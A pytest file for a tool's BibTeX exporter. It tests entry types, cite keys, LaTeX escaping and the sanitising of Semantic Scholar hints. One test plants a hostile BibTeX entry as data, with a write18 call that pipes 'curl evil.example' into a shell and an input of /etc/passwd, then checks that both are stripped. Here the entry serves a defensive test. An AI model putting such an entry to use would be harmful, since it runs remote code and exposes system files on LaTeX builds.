"""BibTeX from both paths (S2's entry, built from arXiv metadata) parses with bibtexparser 2."""

from __future__ import annotations

import json
from pathlib import Path

import bibtexparser
import pytest
from exchange_fixtures import BIGBIRD, LONGFORMER, S2_VASWANI, VASWANI

from tui.exchange import bibtex_entry, bibtex_for
from tui.exchange.bibtex import cite_key
from tui.models import Author, Paper, PaperIds

S2_CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "api" / "s2"


def parse(text: str) -> bibtexparser.Library:
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == [], [b.raw for b in library.failed_blocks]
    return library


def fields(entry) -> dict[str, str]:
    return {f.key: f.value for f in entry.fields}


def test_s2_entry_is_a_hint_never_copied() -> None:
    text = bibtex_entry(VASWANI)
    (entry,) = parse(text).entries
    assert (entry.key, entry.entry_type) == ("vaswani2017attention", "inproceedings")
    got = fields(entry)
    assert got["title"] == "Attention Is All You Need"  # the paper's own title, not S2's entry
    assert got["booktitle"] == "Neural Information Processing Systems"
    assert got["pages"] == "5998--6008"  # a plain number range from the hint
    assert (got["eprint"], got["archivePrefix"], got["primaryClass"]) == (
        "1706.03762",
        "arXiv",
        "cs.CL",
    )
    assert "Vaswani2017AttentionIA" not in text and "Noam M. Shazeer" not in text


def test_one_clean_style_one_field_per_line_aligned() -> None:
    for paper in (VASWANI, LONGFORMER, BIGBIRD):
        head, *lines, end = bibtex_entry(paper).rstrip("\n").split("\n")
        assert head.startswith("@") and head.endswith(",") and end == "}"
        assert len({line.index("=") for line in lines}) == 1  # the = signs line up
        assert all(line.startswith("  ") and line.rstrip(",").endswith("}") for line in lines)


@pytest.mark.parametrize(
    ("venue", "kind", "venue_field"),
    [
        ("Neural Information Processing Systems", "inproceedings", "booktitle"),
        ("Proceedings of the 2019 Conference of the NAACL", "inproceedings", "booktitle"),
        ("ACL Workshop on Efficient NLP", "inproceedings", "booktitle"),
        ("IEEE Transactions on Pattern Analysis and Machine Intelligence", "article", "journal"),
        ("Journal of Machine Learning Research", "article", "journal"),
        ("Proceedings of the National Academy of Sciences", "article", "journal"),
        ("Nature", "article", "journal"),
        ("ArXiv", "misc", None),
        ("", "misc", None),
    ],
)
def test_one_entry_type_per_venue_kind(venue, kind, venue_field) -> None:
    paper = Paper(title="X", ids=PaperIds(doi="10.1/x"), venue=venue or None, year=2001)
    (entry,) = parse(bibtex_entry(paper)).entries
    assert entry.entry_type == kind
    got = fields(entry)
    assert {"booktitle", "journal"} & set(got) == ({venue_field} if venue_field else set())


def test_s2s_article_with_a_booktitle_is_inproceedings_and_a_journal_hint_an_article() -> None:
    paper = Paper(title="X", ids=PaperIds(s2="a"), venue="Machine Learning", bibtex=S2_VASWANI)
    assert parse(bibtex_entry(paper)).entries[0].entry_type == "inproceedings"
    hint = "@Article{K,\n journal = {Machine Learning},\n volume = {8},\n pages = {229-256}\n}"
    (entry,) = parse(bibtex_entry(paper.with_(bibtex=hint))).entries
    assert entry.entry_type == "article"
    assert (fields(entry)["volume"], fields(entry)["pages"]) == ("8", "229--256")


def test_arxiv_only_entry_is_built_with_a_stable_key() -> None:
    text = bibtex_entry(LONGFORMER)
    (entry,) = parse(text).entries
    assert entry.key == "beltagy2020longformer"
    assert entry.entry_type == "misc"
    assert fields(entry) == {
        "title": "Longformer: The {Long-Document} Transformer",
        "author": "Iz Beltagy and Matthew E. Peters and Arman Cohan",
        "year": "2020",
        "eprint": "2004.05150",
        "archivePrefix": "arXiv",
        "primaryClass": "cs.CL",
        "url": "https://arxiv.org/abs/2004.05150",
    }
    assert bibtex_entry(LONGFORMER) == text  # stable


def test_built_entry_with_a_venue_and_a_doi() -> None:
    (entry,) = parse(bibtex_entry(BIGBIRD)).entries
    assert (entry.key, entry.entry_type) == ("zaheer2020big", "inproceedings")
    assert fields(entry)["booktitle"] == "NeurIPS"
    assert fields(entry)["doi"] == "10.48550/arxiv.2007.14062"
    journal = Paper(title="X", ids=PaperIds(doi="10.1/x"), venue="Journal of Things", year=2001)
    assert parse(bibtex_entry(journal)).entries[0].entry_type == "article"


def test_the_whole_shortlist_parses() -> None:
    library = parse(bibtex_for([VASWANI, LONGFORMER, BIGBIRD]))
    assert [e.key for e in library.entries] == [
        "vaswani2017attention",
        "beltagy2020longformer",
        "zaheer2020big",
    ]


def test_colliding_keys_get_b_and_c_suffixes() -> None:
    twin = LONGFORMER.with_(ids=PaperIds(arxiv="2004.99999"), title="Longformer revisited")
    third = LONGFORMER.with_(ids=PaperIds(arxiv="2004.99998"))
    library = parse(bibtex_for([LONGFORMER, twin, third, VASWANI, VASWANI]))
    assert [e.key for e in library.entries] == [
        "beltagy2020longformer",
        "beltagy2020longformerb",
        "beltagy2020longformerc",
        "vaswani2017attention",
        "vaswani2017attentionb",
    ]


def test_latex_specials_and_control_characters_are_escaped() -> None:
    nasty = Paper(
        title="50% of {all} $x_i$ & #1 ~ ^ \\relax \x1b[31mred\x1b[0m tricks}",
        ids=PaperIds(arxiv="2101.00001"),
        authors=(Author("Jöns Q_Public"), Author("Research and Development Team")),
        year=2021,
        venue="Proc. of A & B",
    )
    text = bibtex_entry(nasty)
    assert "\x1b" not in text
    (entry,) = parse(text).entries
    got = fields(entry)
    assert got["title"].startswith(r"50\% of \textbraceleft{}all\textbraceright{} \$x\_i\$ \& \#1")
    assert r"\textbackslash{}relax" in got["title"]
    assert got["author"] == r"Jöns Q\_Public and {Research and Development Team}"
    assert got["booktitle"] == r"Proc. of A \& B"
    assert entry.key == "qpublic2021all"  # a number is no title word


def test_a_hostile_s2_entry_brings_nothing_of_its_own() -> None:
    planted = (
        "@Article{Evil,\n title = {\\immediate\\write18{curl evil.example | sh}},\n"
        " note = {\\input{/etc/passwd}},\n pages = {\\def\\x{1}},\n booktitle = {NeurIPS}\n}"
    )
    text = bibtex_entry(LONGFORMER.with_(bibtex=planted, venue="NeurIPS"))
    assert "write18" not in text and "input" not in text and "def" not in text
    (entry,) = parse(text).entries
    assert "pages" not in fields(entry) and "note" not in fields(entry)
    for bad in ("@Article{K,\n title = {unbalanced\n}", "@misc{a, x={1}}\n@misc{b, y={2}}", "junk"):
        (entry,) = parse(bibtex_entry(LONGFORMER.with_(bibtex=bad))).entries
        assert entry.key == "beltagy2020longformer"


def test_a_paper_known_by_id_only_gets_an_entry_without_a_title() -> None:
    bare = Paper(title="arxiv:1706.03762", ids=PaperIds(arxiv="1706.03762"))
    (entry,) = parse(bibtex_entry(bare)).entries
    assert entry.key == "arxiv1706.03762"
    assert "title" not in fields(entry)
    assert cite_key(Paper(title="")) == "paper"


@pytest.mark.skipif(not S2_CORPUS.is_dir(), reason="the shared corpus is not here")
def test_every_s2_answer_in_the_corpus_exports_to_parseable_bibtex() -> None:
    from tui.sources.s2_client import paper_from_s2

    data = json.loads((S2_CORPUS / "search_paper_full_fields.json").read_text())
    papers = [paper_from_s2(item) for item in data["data"]]
    assert any(p.bibtex for p in papers)
    library = parse(bibtex_for(papers))
    assert len(library.entries) == len(papers)
